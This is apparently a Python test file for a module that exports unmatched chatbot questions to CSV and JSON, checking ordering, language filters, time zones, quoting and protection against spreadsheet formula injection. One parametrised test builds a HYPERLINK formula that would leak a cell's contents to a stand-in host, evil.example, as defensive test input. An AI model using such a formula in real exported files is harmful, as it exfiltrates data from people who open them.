"""`escalation.unmatched`: what staff list and export."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from escalation.unmatched import Row, as_csv, as_json, rows
from storage.store import Store
from storage.tables import unmatched
from text import Language

HOUR = datetime(2026, 12, 1, 14, tzinfo=UTC)
OWN = ["id", "hour", "channel", "language", "text", "nearest"]
COLUMNS = [*OWN, "why", "entry", "group", "state", "answer"]
FORMULAS = ("=", "+", "-", "@", "\t", "\r")


def row(text: str, number: int = 1) -> Row:
    """Return an unmatched question."""
    nearest = [("malaria-spread", 0.1234), ("cpr", 0.05)]
    return Row(number, HOUR, "telegram", "en", text, nearest)


async def fill(store: Store) -> None:
    """Write five questions of two hours and two languages."""
    async with store.begin() as connection:
        for number in range(5):
            await connection.execute(
                unmatched.insert().values(
                    hour=HOUR - timedelta(hours=number // 3),
                    channel="web",
                    language="sw" if number % 2 else "en",
                    text=f"question {number}",
                    nearest=[["cpr", 0.25]],
                )
            )


def read(text: str) -> list[list[str]]:
    """Return the cells of a CSV file."""
    return list(csv.reader(io.StringIO(text, newline="")))


async def test_the_newest_question_comes_first(store: Store) -> None:
    """By hour, and within an hour the later row."""
    await fill(store)
    async with store.read() as connection:
        found = await rows(connection)

    assert [2, 1, 0, 4, 3] == [int(one.text[-1]) for one in found]
    assert [("cpr", 0.25)] == found[0].nearest


@pytest.mark.parametrize(
    ("language", "limit", "numbers"),
    [
        (Language.SW, None, [1, 3]),
        (Language.EN, 1, [2]),
        (None, 2, [2, 1]),
        (Language.UR, None, []),
    ],
)
async def test_lists_one_language_and_so_many(
    store: Store, language: Language | None, limit: int | None, numbers: list[int]
) -> None:
    """A Swahili speaker reads Swahili."""
    await fill(store)
    async with store.read() as connection:
        found = await rows(connection, language, limit)

    assert numbers == [int(one.text[-1]) for one in found]


async def test_hours_come_back_as_they_were_written(store: Store) -> None:
    """Aware, in UTC: an export must not shift by the reader's time zone."""
    await fill(store)
    async with store.read() as connection:
        (newest, *_) = await rows(connection)

    assert HOUR == newest.hour


def test_json_is_one_question_a_line() -> None:
    """Readable in every script, and read back whole."""
    text = as_json([row("मलेरिया कैसे “फैलता” है\nऔर?"), row("two", 2)])
    first, second = map(json.loads, text.splitlines())

    assert "मलेरिया" in text
    assert {
        "id": 1,
        "hour": "2026-12-01T14:00:00+00:00",
        "channel": "telegram",
        "language": "en",
        "text": "मलेरिया कैसे “फैलता” है\nऔर?",
        "nearest": [["malaria-spread", 0.1234], ["cpr", 0.05]],
        "why": "unmatched",
        **dict.fromkeys(("entry", "group", "state", "answer")),
    } == first
    assert 2 == second["id"]


def test_an_empty_log_is_an_empty_file() -> None:
    """With its header where there is one."""
    assert ",".join(COLUMNS) + "\r\n" == as_csv([])
    assert "" == as_json([])


def test_csv_has_a_header_and_a_line_a_question() -> None:
    """Commas, quotes and line breaks stay inside their cell."""
    header, first = read(as_csv([row('what, is "this"\n?')]))

    assert COLUMNS == header
    expected = ["1", "2026-12-01T14:00:00+00:00", "telegram", "en", 'what, is "this"\n?']
    assert [*expected, "malaria-spread 0.12; cpr 0.05", "unmatched", *[""] * 4] == first


@pytest.mark.parametrize("sign", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "return"])
def test_no_question_runs_as_a_formula(sign: str) -> None:
    """A spreadsheet shows it as text; nothing of it is lost."""
    attack = f'{sign}HYPERLINK("https://evil.example?x="&A1,"press")'
    (_, first) = read(as_csv([row(attack)]))

    assert f"'{attack}" == first[4]


def test_a_sign_inside_a_question_is_left_alone() -> None:
    """Only the first one can start a formula."""
    (_, first) = read(as_csv([row("is 2+2 = 4")]))

    assert "is 2+2 = 4" == first[4]


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.text(st.sampled_from("=+-@\t\r\n',\"; a1"), max_size=12))
def test_no_cell_of_any_export_begins_a_formula(text: str) -> None:
    """Whatever people type, every cell is inert and the words can be read back."""
    (_, cells) = read(as_csv([row(text)]))

    assert not any(cell.startswith(FORMULAS) for cell in cells)
    assert text in (cells[4], cells[4].removeprefix("'"))
